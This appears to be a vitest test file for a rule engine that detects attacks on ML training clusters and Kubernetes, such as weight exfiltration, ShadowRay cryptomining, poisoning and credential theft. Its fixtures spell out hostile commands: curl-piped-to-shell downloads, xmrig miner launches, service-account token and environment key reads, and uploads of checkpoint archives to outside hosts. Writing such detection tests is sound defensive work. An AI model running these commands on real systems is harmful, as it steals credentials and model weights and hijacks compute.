import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadRuleSet } from './rule-loader.js';
import { createRuleEngine, decideLayer1 } from './engine.js';
import type { EventRecord } from '../../core/records.js';
import type { GpuWindow } from './gpu-window.js';
import { appEvent, auditEvent, auditObjectsOf, FIXTURES_DIR, MIN, readRuleFiles, T0 } from './fixtures.test-support.js';

const ALL = [...readRuleFiles('sigma'), ...readRuleFiles('mlshield'), ...readRuleFiles('specs')];
const set = loadRuleSet(ALL);

function fresh() {
  return createRuleEngine(set.rules);
}
function ids(hits: { ruleId: string }[]): string[] {
  return [...new Set(hits.map((h) => h.ruleId))].sort();
}
function audit(ts: number, verb: string, actor: string, ref: Record<string, unknown>, extra: Record<string, unknown> = {}): EventRecord {
  return { ...auditEvent({ verb, user: { username: actor }, objectRef: ref, ...extra }), ts };
}

describe('the shipped rule set', () => {
  it('loads without errors or warnings; ids are unique and follow their family', () => {
    expect(set.errors).toEqual([]);
    expect(set.warnings).toEqual([]);
    const mls = set.rules.filter((r) => r.origin === 'mlshield');
    expect(mls.length).toBeGreaterThanOrEqual(40);
    const prefix: Record<string, string> = {
      EXFIL: 'weight-exfil', INSIDER: 'insider-exfil', DISTILL: 'distillation', RAY: 'shadowray', POISON: 'data-poisoning',
      EXTRACT: 'model-extraction', K8S: 'k8s-misconfig', CLEAR: 'benign',
    };
    for (const r of mls) {
      const fam = prefix[r.meta.id.split('-')[1]!];
      expect(fam, r.meta.id).toBe(r.meta.family);
      if (r.meta.family === 'benign') expect(r.meta.decision).toBe('clear');
      else expect(r.meta.phase, r.meta.id).not.toBeNull();
    }
    // Every family of the seed is covered.
    for (const f of ['weight-exfil', 'distillation', 'shadowray', 'data-poisoning', 'model-extraction', 'insider-exfil', 'k8s-misconfig'])
      expect(mls.some((r) => r.meta.family === f && r.meta.decision !== 'clear'), f).toBe(true);
  });

  it('weight exfiltration, the seed demo: recon → staging → conversion → exfiltration', () => {
    const e = fresh();
    const job = { job: 'train-42', namespace: 'ml-train', actor: 'system:serviceaccount:ml-train:trainer' };
    const steps: Array<[EventRecord, string[], string, string]> = [
      [appEvent(T0, 'k8s_get', { ...job, resource: 'secrets/aws-credentials' }), ['MLS-EXFIL-004'], 'escalate', 'recon'],
      [appEvent(T0 + 5 * MIN, 'checkpoint_copy', job, { path: '/checkpoints/step-9000.safetensors', destination: '/tmp/.cache/s.bin', bytes: 2 ** 30 }), ['MLS-EXFIL-010'], 'alert', 'staging'],
      [appEvent(T0 + 9 * MIN, 'model_convert', job, { path: '/workspace/out/model.gguf', format: 'gguf', bytes: 2 ** 30 }), ['MLS-EXFIL-020', 'SPEC-TRAINING-DEFAULT/artifacts.formats'], 'alert', 'conversion'],
      [
        appEvent(T0 + 12 * MIN, 'upload', job, { destination: 'https://transfer.sh/x/model.gguf', bytes: 3 * 2 ** 30 }),
        ['MLS-EXFIL-030', 'MLS-EXFIL-031', 'MLS-EXFIL-033', 'MLS-EXFIL-034', 'MLS-EXFIL-035', 'SPEC-TRAINING-DEFAULT/egress.deny', 'SPEC-TRAINING-DEFAULT/egress.rate'],
        'alert',
        'exfiltration',
      ],
    ];
    for (const [event, want, decision, phase] of steps) {
      const hits = e.evaluate(event);
      for (const id of want) expect(ids(hits), event.action).toContain(id);
      const d = decideLayer1(hits);
      expect(d.decision, event.action).toBe(decision);
      expect(d.phase, event.action).toBe(phase);
      expect(d.family).toBe('weight-exfil');
    }
    expect(decideLayer1(e.evaluate(appEvent(T0 + 13 * MIN, 'upload', job, { destination: 'https://transfer.sh/y', bytes: 1 }))).severity).toBe('critical');
  });

  it('recon: fifteen distinct secrets read by one user within ten minutes', () => {
    const e = fresh();
    const fired: string[][] = [];
    for (let i = 0; i < 15; i++) fired.push(ids(e.evaluate(audit(T0 + i * 20_000_000, 'get', 'mallory', { resource: 'secrets', namespace: 'ml-train', name: `secret-${i}` }))));
    expect(fired.slice(0, 14).every((f) => !f.includes('MLS-EXFIL-001'))).toBe(true);
    expect(fired[14]).toContain('MLS-EXFIL-001');
  });

  it('benign cluster and training traffic ends at Layer 1 as clear', () => {
    const e = fresh();
    const benign: EventRecord[] = [
      audit(T0, 'update', 'system:node:gpu-1', { resource: 'leases', namespace: 'kube-node-lease', name: 'gpu-1', apiGroup: 'coordination.k8s.io' }),
      audit(T0, 'get', 'system:kube-controller-manager', { resource: 'leases', namespace: 'kube-system', name: 'kube-controller-manager' }),
      audit(T0, 'patch', 'system:node:gpu-1', { resource: 'pods', subresource: 'status', namespace: 'ml-train', name: 'train-42-0' }),
      audit(T0, 'get', 'system:node:gpu-1', { resource: 'secrets', namespace: 'ml-train', name: 'default-token-abc' }),
      audit(T0, 'update', 'system:serviceaccount:kube-system:replicaset-controller', { resource: 'replicasets', namespace: 'ml-train', name: 'x' }),
      audit(T0, 'watch', 'system:kube-scheduler', { resource: 'pods' }),
      audit(T0, 'watch', 'alice', { resource: 'configmaps', namespace: 'ml-train' }),
      audit(T0, 'create', 'system:node:gpu-1', { resource: 'events', namespace: 'ml-train' }),
      { ...auditEvent({ verb: 'get', user: { username: 'system:anonymous' }, requestURI: '/healthz', annotations: { 'authorization.k8s.io/decision': 'allow' } }), ts: T0 },
      { ...auditEvent({ verb: 'get', user: { username: 'alice' }, requestURI: '/apis/batch/v1' }), ts: T0 },
      appEvent(T0, 'heartbeat', { job: 'train-42' }),
      appEvent(T0, 'train_step', { job: 'train-42' }, { step: 100, loss: 1.2 }),
      appEvent(T0, 'dataset_read', { job: 'train-42', namespace: 'ml-train', actor: 'system:serviceaccount:ml-train:trainer' }, { path: '/data/shard-1', bytes: 1e6 }),
      appEvent(T0, 'checkpoint_save', { job: 'train-42', namespace: 'ml-train', actor: 'system:serviceaccount:ml-train:trainer' }, { path: '/checkpoints/step-1.pt', bytes: 1e9 }),
    ];
    for (const ev of benign) {
      const d = decideLayer1(e.evaluate(ev));
      expect(d.decision, `${ev.actor} ${ev.action} ${ev.resource}`).toBe('clear');
      expect(d.severity).toBe('info');
    }
  });

  it('a clear rule never hides a detection on the same event', () => {
    const e = fresh();
    // Replicaset controller (cleared as a reconcile) creating a privileged pod (Sigma alert).
    const obj = auditObjectsOf(readFileSync(join(FIXTURES_DIR, 'k8s-audit', 'falco__create_nginx_pod_privileged.json'), 'utf8'))[0];
    const hits = e.evaluate(auditEvent(obj));
    expect(hits.some((h) => h.decision === 'clear')).toBe(true);
    expect(decideLayer1(hits)).toMatchObject({ decision: 'alert', severity: 'high', family: 'k8s-misconfig' });
  });

  it('the audit2rbac demo log: discovery is cleared, nothing alerts', () => {
    const e = fresh();
    const text = readFileSync(join(FIXTURES_DIR, 'k8s-audit', 'audit2rbac__demo.log'), 'utf8');
    const decisions = auditObjectsOf(text).map((o, i) => decideLayer1(e.evaluate(auditEvent(o, i + 1))).decision);
    expect(decisions).not.toContain('alert');
    expect(decisions.filter((d) => d === 'clear').length).toBeGreaterThanOrEqual(20);
  });

  it('distillation: bulk logprob harvesting, then a training GPU profile on the same job', () => {
    const e = fresh();
    let last: string[] = [];
    for (let i = 0; i < 100; i++) last = ids(e.evaluate(appEvent(T0 + i * 1e6, 'inference_query', { job: 'student-7', actor: 'svc-student' }, { model: 'teacher-70b', logprobs: true, input_hash: `h${i}` })));
    expect(last).toContain('MLS-DISTILL-002');
    const w: GpuWindow = { job: 'student-7', node: 'n', gpu: '0', start: T0 + 5 * MIN, end: T0 + 10 * MIN, fields: { DCGM_FI_DEV_GPU_UTIL: { mean: 88, max: 99, min: 60 }, DCGM_FI_DEV_FB_USED: { mean: 40000, max: 41000, min: 39000 } } };
    expect(ids(e.evaluateGpuWindow(w))).toContain('MLS-DISTILL-003');
  });

  it('ShadowRay: external job submit with a miner, Ray SA reading secrets, metadata access, cryptojacking profile', () => {
    const e = fresh();
    const submit = ids(e.evaluate(appEvent(T0, 'ray_job_submit', { job: 'raycluster-a' }, { sourceIP: '203.0.113.9', entrypoint: 'bash -c "curl -s http://x/m.sh | sh; ./xmrig -o stratum+tcp://pool:3333"' })));
    expect(submit).toEqual(expect.arrayContaining(['MLS-RAY-001', 'MLS-RAY-003']));
    expect(e.evaluate(appEvent(T0, 'ray_job_submit', { job: 'raycluster-a', actor: 'alice@corp.example' }, { sourceIP: '10.0.3.4', entrypoint: 'python train.py' }))).toEqual([]);
    // The entrypoint's download piped into a shell alone (MLS-RAY-003's sel_pipe), from the last fetch word before the pipe.
    const entry = (entrypoint: string): string[] => ids(fresh().evaluate(appEvent(T0, 'ray_job_submit', { job: 'raycluster-a', actor: 'alice@corp.example' }, { sourceIP: '10.0.3.4', entrypoint })));
    for (const ep of ['curl -s http://x/m.sh | sh', 'wget -qO- http://x/m.sh |  zsh', 'curl -s http://x/a; curl -s http://x/m.sh | bash', 'curl a wget b | dash']) expect(entry(ep), ep).toContain('MLS-RAY-003');
    for (const ep of ['curl -s http://x/m.sh -o m.sh; cat m.sh | sh', 'curl -s http://x | shasum', 'curl -s http://x || sh', `${'curl '.repeat(800)}`]) expect(entry(ep), ep).not.toContain('MLS-RAY-003');
    expect(ids(e.evaluate(appEvent(T0, 'ray_job_submit', { job: 'raycluster-a', actor: 'anonymous' }, { client_addr: '10.0.3.4', entrypoint: 'python train.py' })))).toEqual(['MLS-RAY-009']);
    expect(ids(e.evaluate(audit(T0, 'list', 'system:serviceaccount:ray:ray-head', { resource: 'secrets', namespace: 'ray' })))).toContain('MLS-RAY-004');
    expect(ids(e.evaluate(appEvent(T0, 'http_request', { job: 'raycluster-a' }, { url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' })))).toContain('MLS-RAY-005');
    const w: GpuWindow = { job: 'raycluster-a', node: 'n', gpu: '1', start: T0, end: T0 + 5 * MIN, fields: { DCGM_FI_DEV_GPU_UTIL: { mean: 99, max: 100, min: 97 }, DCGM_FI_DEV_FB_USED: { mean: 900, max: 1000, min: 800 } } };
    const g = e.evaluateGpuWindow(w);
    expect(ids(g)).toContain('MLS-RAY-007');
    expect(decideLayer1(g).decision).toBe('escalate');
  });

  it('data poisoning: training-data writes, logging tampered with, events deleted', () => {
    const e = fresh();
    expect(ids(e.evaluate(appEvent(T0, 'dataset_write', { actor: 'bob', job: 'etl-3' }, { destination: 's3://corp-training-data/train/labels.csv' })))).toContain('MLS-POISON-001');
    expect(ids(e.evaluate(audit(T0, 'patch', 'bob', { resource: 'configmaps', namespace: 'logging', name: 'fluent-bit-config' })))).toContain('MLS-POISON-004');
    expect(ids(e.evaluate(audit(T0, 'delete', 'bob', { resource: 'events', namespace: 'ml-train' })))).toContain('MLS-POISON-005');
    expect(ids(e.evaluate(audit(T0, 'update', 'bob', { resource: 'configmaps', namespace: 'ml-train', name: 'train-config-llama' })))).toContain('MLS-POISON-003');
  });

  it('model extraction: 500 distinct inputs from one client in ten minutes', () => {
    const e = fresh();
    let last: string[] = [];
    for (let i = 0; i < 500; i++) last = ids(e.evaluate(appEvent(T0 + i * 1e6, 'inference_query', { actor: 'api-key-77' }, { input_hash: `q${i}` })));
    expect(last).toContain('MLS-EXTRACT-002');
  });

  it('insider low-and-slow: 21 GiB of checkpoints read by one person in a day', () => {
    const e = fresh();
    let last: string[] = [];
    for (let i = 0; i < 21; i++) last = ids(e.evaluate(appEvent(T0 + i * 60 * MIN, 'checkpoint_read', { actor: 'alice' }, { path: `/checkpoints/run-${i}.pt`, bytes: 2 ** 30 })));
    expect(last).toEqual(expect.arrayContaining(['MLS-INSIDER-002', 'MLS-INSIDER-004']));
  });

  it('k8s: a burst of denied requests by one identity', () => {
    const e = fresh();
    let last: string[] = [];
    for (let i = 0; i < 20; i++) {
      const ev = audit(T0 + i * 1e6, 'list', 'eve', { resource: 'secrets', namespace: `ns${i}` }, { responseStatus: { code: 403 } });
      last = ids(e.evaluate(ev));
    }
    expect(last).toContain('MLS-K8S-001');
  });

  it('exec into pods: packing, conversion, upload tools, token theft, miners (command from requestURI)', () => {
    const e = fresh();
    const exec = (actor: string, command: string[]) => {
      const ev = audit(T0, 'create', actor, { resource: 'pods', subresource: 'exec', namespace: 'ml-train', name: 'llama-ft-worker-0' }, { responseStatus: { code: 101 } });
      ev.attrs.exec = { command, container: 'pytorch' };
      return ids(e.evaluate(ev));
    };
    const sa = 'system:serviceaccount:ml-train:llama-ft-trainer';
    expect(exec(sa, ['sh', '-c', 'mkdir -p /tmp/.cache/hf && tar czf /tmp/.cache/hf/blobs.tgz -C /mnt/ckpt/llama-ft/step_9000 .'])).toContain('MLS-EXFIL-013');
    expect(exec(sa, ['python3', '/tmp/.cache/convert.py', '--src', '/tmp/m.pt', '--to', 'safetensors'])).toContain('MLS-EXFIL-015');
    expect(exec(sa, ['curl', '-sS', '--retry', '3', '-T', '/tmp/part-00', 'https://upload.example.net/u/b/part-00'])).toContain('MLS-EXFIL-014');
    expect(exec(sa, ['aws', 's3', 'cp', '/tmp/part-01', 's3://bucket/x'])).toContain('MLS-EXFIL-014');
    expect(exec(sa, ['rclone', 'copy', '/tmp/part-02', 'remote:bucket/'])).toContain('MLS-EXFIL-014');
    expect(exec(sa, ['sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token; env | grep -i key'])).toContain('MLS-RAY-010');
    expect(exec(sa, ['sh', '-c', 'nohup /tmp/.x/xmrig --donate-level 0 -o stratum+tcp://203.0.113.7:3333 &'])).toContain('MLS-RAY-011');
    // A person checking the GPU: only the generic Sigma exec rule (escalate), nothing else.
    expect(exec('oidc:alice@corp.example', ['nvidia-smi'])).toEqual(['79cc565c-cf24-4bf3-b1bb-c00a7c99631c']);
  });

  it('kubectl cp: one copy escalates; weight shards copied again from the same workload alert (insider, chunked)', () => {
    const e = fresh();
    const cp = (i: number, actor: string, job: string, file: string) => {
      const ev = { ...audit(T0 + i * 10 * MIN, 'create', actor, { resource: 'pods', subresource: 'exec', namespace: 'ml-train', name: `${job}-master-0` }, { responseStatus: { code: 101 } }), job: `ml-train/${job}` };
      ev.attrs.exec = { command: ['tar', 'cf', '-', file], container: 'pytorch' };
      return e.evaluate(ev);
    };
    const oncall = 'oidc:tomas@corp.example';
    const insider = 'oidc:nora@corp.example';
    // On-call debugging: a config, a trainer state and one checkpoint of one job, then one of another job.
    expect(decideLayer1(cp(0, oncall, 'whisper-ft', '/mnt/ckpt/whisper-ft/step_100/config.json')).decision).toBe('escalate');
    expect(decideLayer1(cp(1, oncall, 'whisper-ft', '/mnt/ckpt/whisper-ft/step_100/model.pt')).decision).toBe('escalate');
    expect(decideLayer1(cp(2, oncall, 'llama-ft', '/mnt/ckpt/llama-ft/step_200/model.pt')).decision).toBe('escalate');
    // The insider: shard after shard from one job; the second weight copy alerts.
    expect(ids(cp(3, insider, 'rm-pref', '/mnt/ckpt/rm-pref/step_9/model-00001-of-00038.safetensors'))).not.toContain('MLS-INSIDER-006');
    const second = cp(4, insider, 'rm-pref', '/mnt/ckpt/rm-pref/step_9/model-00002-of-00038.safetensors');
    expect(ids(second)).toContain('MLS-INSIDER-006');
    expect(decideLayer1(second).decision).toBe('alert');
    // Three copies of anything from one workload by one actor in a day alert too.
    expect(ids(cp(5, oncall, 'whisper-ft', '/mnt/ckpt/whisper-ft/step_100/trainer_state.json'))).toContain('MLS-INSIDER-007');
    // A workload's own service account packing files is the weight-exfil rules' business, not these.
    const sa = 'system:serviceaccount:ml-train:rm-pref-trainer';
    cp(6, sa, 'rm-pref', '/mnt/ckpt/rm-pref/step_9/model-00003-of-00038.safetensors');
    expect(ids(cp(7, sa, 'rm-pref', '/mnt/ckpt/rm-pref/step_9/model-00004-of-00038.safetensors'))).not.toContain('MLS-INSIDER-006');
  });

  it('routine workload reads, plain inference usage and CI rollouts clear; probes, secrets and probability harvesting do not', () => {
    const e = fresh();
    const sa = 'system:serviceaccount:research-nlp:default-editor';
    const decide = (ev: EventRecord) => decideLayer1(e.evaluate(ev)).decision;
    expect(decide(audit(T0, 'list', sa, { resource: 'pods', namespace: 'research-nlp' }, { responseStatus: { code: 200 } }))).toBe('clear');
    expect(decide(audit(T0, 'get', sa, { resource: 'configmaps', namespace: 'research-nlp', name: 'nb-config' }, { responseStatus: { code: 200 } }))).toBe('clear');
    expect(decide(audit(T0, 'list', sa, { resource: 'pods', namespace: 'research-nlp' }, { responseStatus: { code: 403 } }))).not.toBe('clear');
    expect(decide(audit(T0, 'list', sa, { resource: 'pods' }, { responseStatus: { code: 200 } }))).not.toBe('clear');
    expect(decide(audit(T0, 'get', sa, { resource: 'secrets', namespace: 'research-nlp', name: 'hf-token' }, { responseStatus: { code: 200 } }))).not.toBe('clear');
    const usage = (attrs: Record<string, unknown>) => decide(appEvent(T0, 'inference_usage', { actor: 'svc-eval@corp.example', resource: 'v1/models/llama/generate' }, { requests: 40, ...attrs }));
    expect(usage({})).toBe('clear');
    expect(usage({ logprobs: 0 })).toBe('clear');
    expect(usage({ logprobs: 5 })).not.toBe('clear');
    const ci = 'system:serviceaccount:ci:ci-deployer';
    expect(decide(audit(T0, 'patch', ci, { resource: 'deployments', namespace: 'inference', name: 'gateway' }, { responseStatus: { code: 200 } }))).toBe('clear');
    expect(decide(audit(T0, 'patch', ci, { resource: 'configmaps', namespace: 'ml-train', name: 'train-config-llama' }, { responseStatus: { code: 200 } }))).not.toBe('clear');
    expect(decide(audit(T0, 'get', ci, { resource: 'secrets', namespace: 'inference', name: 'tls' }, { responseStatus: { code: 200 } }))).not.toBe('clear');
  });

  it('a workload token listing its permissions and guessing credential secrets alerts early', () => {
    const e = fresh();
    const sa = 'system:serviceaccount:ml-train:llama-ft-trainer';
    const r = e.evaluate(audit(T0, 'create', sa, { resource: 'selfsubjectrulesreviews', apiGroup: 'authorization.k8s.io' }, { responseStatus: { code: 201 } }));
    expect(ids(r)).toContain('MLS-K8S-004');
    expect(decideLayer1(r).decision).toBe('alert');
    const guess = (i: number, name: string, code: number) => ids(e.evaluate(audit(T0 + i * 1e6, 'get', sa, { resource: 'secrets', namespace: 'ml-train', name }, { responseStatus: { code } })));
    expect(guess(1, 'hf-token', 403)).toContain('MLS-EXFIL-004');
    expect(guess(2, 'wandb-api-key', 404)).not.toContain('MLS-EXFIL-006');
    expect(guess(3, 'registry-push-token', 403)).toContain('MLS-EXFIL-006');
    // A successful read of the job's own credential by a person is not a probe.
    expect(ids(e.evaluate(audit(T0, 'get', 'oidc:bob@corp.example', { resource: 'secrets', namespace: 'ml-train', name: 'llama-ft-wandb' }, { responseStatus: { code: 200 } })))).toEqual([]);
  });

  it("a workload's token used in another team's namespace alerts; its own namespace and platform controllers do not", () => {
    const e = fresh();
    const student = 'system:serviceaccount:ml-train:default-editor';
    const hit = (ev: EventRecord) => ids(e.evaluate(ev)).includes('MLS-K8S-006');
    // Distillation's first recon step: the student job's token lists the teacher team's training jobs.
    const recon = e.evaluate(audit(T0, 'list', student, { resource: 'pytorchjobs', namespace: 'research-nlp', apiGroup: 'kubeflow.org' }, { responseStatus: { code: 200 } }));
    expect(ids(recon)).toContain('MLS-K8S-006');
    expect(decideLayer1(recon)).toMatchObject({ decision: 'alert', phase: 'recon' });
    expect(recon.find((h) => h.ruleId === 'MLS-K8S-006')!.reason).toContain('research-nlp');
    expect(hit(audit(T0, 'get', student, { resource: 'secrets', namespace: 'inference', name: 'tls' }, { responseStatus: { code: 403 } }))).toBe(true);
    // Namespace names compare as Sigma compares strings: case does not make another namespace.
    expect(hit(audit(T0, 'list', student, { resource: 'pods', namespace: 'ML-Train' }, { responseStatus: { code: 200 } }))).toBe(false);
    expect(hit(audit(T0, 'list', student, { resource: 'pods', namespace: 'ml-train' }, { responseStatus: { code: 200 } }))).toBe(false);
    // Cluster-scoped requests have no namespace to compare; people are not tokens.
    expect(hit(audit(T0, 'list', student, { resource: 'nodes' }, { responseStatus: { code: 200 } }))).toBe(false);
    expect(hit(audit(T0, 'list', 'oidc:alice@corp.example', { resource: 'pytorchjobs', namespace: 'research-nlp' }, { responseStatus: { code: 200 } }))).toBe(false);
    // Controllers and platform automation work across namespaces by design.
    expect(hit(audit(T0, 'update', 'system:serviceaccount:kubeflow:training-operator', { resource: 'pytorchjobs', subresource: 'status', namespace: 'research-nlp' }, { responseStatus: { code: 200 } }))).toBe(false);
    expect(hit(audit(T0, 'patch', 'system:serviceaccount:ci:ci-deployer', { resource: 'deployments', namespace: 'inference' }, { responseStatus: { code: 200 } }))).toBe(false);
    // A malformed service-account name names no namespace: nothing to compare.
    expect(hit(audit(T0, 'list', 'system:serviceaccount:', { resource: 'pods', namespace: 'research-nlp' }, { responseStatus: { code: 200 } }))).toBe(false);
  });

  it('indexes rules on their most selective field', () => {
    const byId = new Map(set.rules.map((r) => [r.meta.id, r.index]));
    expect(byId.get('MLS-CLEAR-001')).toEqual({ key: 'event.resource', values: ['leases'] });
    expect(byId.get('MLS-EXFIL-001')).toEqual({ key: 'event.resource', values: ['secrets'] });
    expect(byId.get('MLS-INSIDER-005')).toEqual({ key: 'event.destination', values: ['*'] });
    expect(byId.get('MLS-K8S-001')).toEqual({ key: 'event.attrs.code', values: ['401', '403'] });
    expect(byId.get('MLS-RAY-006')?.key).toBe('event.attrs.subresource');
    expect(byId.get('2fb35a49-64cf-4e49-83df-991b9d1bbaef')).toEqual({ key: 'audit.user.username', values: ['system:anonymous'] });
    expect(byId.get('a80d927d-ac6e-443f-a867-e8d6e3897318')).toEqual({ key: 'audit.objectRef.resource', values: ['pods'] });
  });

  it('clear hits carry a static reason; others show the matching element of an array', () => {
    const e = fresh();
    const c = e.evaluate(audit(T0, 'update', 'system:node:gpu-1', { resource: 'leases', namespace: 'kube-node-lease', name: 'gpu-1' }));
    expect(c.find((h) => h.ruleId === 'MLS-CLEAR-001')!.reason).toBe('known benign: sel(action, resource, source)');
    const ev = audit(T0, 'create', 'system:serviceaccount:ml-train:x', { resource: 'pods', subresource: 'exec', namespace: 'ml-train', name: 'p' });
    ev.attrs.exec = { command: ['aws', 's3api', 'put-object', '--bucket', 'b', '--body', '/tmp/a'] };
    const h = e.evaluate(ev).find((x) => x.ruleId === 'MLS-EXFIL-014')!;
    expect(h.reason).toContain('sel_cloud_copy(attrs.exec.toolWords="aws put-object")');
  });
});

describe('API-level execution, impersonation and credential minting (MLS-K8S-007 … 011)', () => {
  const PERSON = 'oidc:alice@corp.example';
  const SA = 'system:serviceaccount:ml-train:llama-ft-trainer';
  const ok = { responseStatus: { code: 201 } };
  const at = (verb: string, actor: string, ref: Record<string, unknown>, extra: Record<string, unknown> = ok) => ids(fresh().evaluate(audit(T0, verb, actor, ref, extra)));

  it('alerts on a command run through the kubelet API by nodes/proxy, not on metrics read through it', () => {
    const node = { resource: 'nodes', subresource: 'proxy', name: 'gpu-node-7' };
    for (const path of ['exec/ml-train/trainer-0/pytorch?command=sh&command=-c&command=id&input=1&output=1', 'run/ml-train/trainer-0/pytorch?cmd=id', 'attach/ml-train/trainer-0/pytorch', 'portForward/ml-train/trainer-0?port=8265']) {
      expect(at('create', PERSON, node, { ...ok, requestURI: `/api/v1/nodes/gpu-node-7/proxy/${path}` }), path).toContain('MLS-K8S-007');
    }
    for (const path of ['metrics', 'metrics/cadvisor', 'stats/summary', 'pods']) {
      expect(at('get', 'system:serviceaccount:monitoring:prometheus', node, { ...ok, requestURI: `/api/v1/nodes/gpu-node-7/proxy/${path}` }), path).not.toContain('MLS-K8S-007');
    }
  });

  it('escalates an ephemeral debug container added to a pod, not a refused one', () => {
    const ref = { resource: 'pods', subresource: 'ephemeralcontainers', namespace: 'ml-train', name: 'trainer-0' };
    const r = fresh().evaluate(audit(T0, 'patch', PERSON, ref, { responseStatus: { code: 200 } }));
    expect(ids(r)).toContain('MLS-K8S-008');
    expect(decideLayer1(r).decision).toBe('escalate');
    expect(at('patch', PERSON, ref, { responseStatus: { code: 403 } })).not.toContain('MLS-K8S-008');
    expect(at('get', PERSON, { resource: 'pods', namespace: 'ml-train', name: 'trainer-0' })).not.toContain('MLS-K8S-008');
  });

  it('alerts on a request impersonating an administrator group, a control-plane component, a node or a kube-system account', () => {
    for (const impersonatedUser of [
      { username: 'system:admin' },
      { username: 'alice', groups: ['system:masters'] },
      { username: 'system:kube-controller-manager' },
      { username: 'system:node:gpu-node-7', groups: ['system:nodes'] },
      { username: 'system:serviceaccount:kube-system:clusterrole-aggregation-controller' },
    ]) expect(at('list', PERSON, { resource: 'secrets', namespace: 'ml-train' }, { ...ok, impersonatedUser }), JSON.stringify(impersonatedUser)).toContain('MLS-K8S-009');
    // Impersonating a colleague's user, or none at all.
    expect(at('list', PERSON, { resource: 'pods', namespace: 'ml-train' }, { ...ok, impersonatedUser: { username: 'oidc:bob@corp.example', groups: ['ml-researchers'] } })).not.toContain('MLS-K8S-009');
    expect(at('list', PERSON, { resource: 'pods', namespace: 'ml-train' })).not.toContain('MLS-K8S-009');
  });

  it('escalates a CSR approved by a person or a workload, not by the controller manager', () => {
    const ref = { resource: 'certificatesigningrequests', subresource: 'approval', name: 'csr-x', apiGroup: 'certificates.k8s.io' };
    expect(at('update', PERSON, ref, { responseStatus: { code: 200 } })).toContain('MLS-K8S-010');
    expect(at('update', SA, ref, { responseStatus: { code: 200 } })).toContain('MLS-K8S-010');
    expect(at('update', 'system:serviceaccount:kube-system:certificate-controller', ref, { responseStatus: { code: 200 } })).not.toContain('MLS-K8S-010');
    expect(at('update', PERSON, ref, { responseStatus: { code: 403 } })).not.toContain('MLS-K8S-010');
  });

  it('escalates a service-account token minted by a person or another workload, not by a kubelet', () => {
    const ref = { resource: 'serviceaccounts', subresource: 'token', namespace: 'ml-train', name: 'llama-ft-trainer' };
    expect(at('create', PERSON, ref)).toContain('MLS-K8S-011');
    expect(at('create', 'system:serviceaccount:ml-serve:default', ref)).toContain('MLS-K8S-011');
    expect(at('create', 'system:node:gpu-node-7', ref)).not.toContain('MLS-K8S-011');
    expect(at('create', PERSON, ref, { responseStatus: { code: 403 } })).not.toContain('MLS-K8S-011');
  });
});
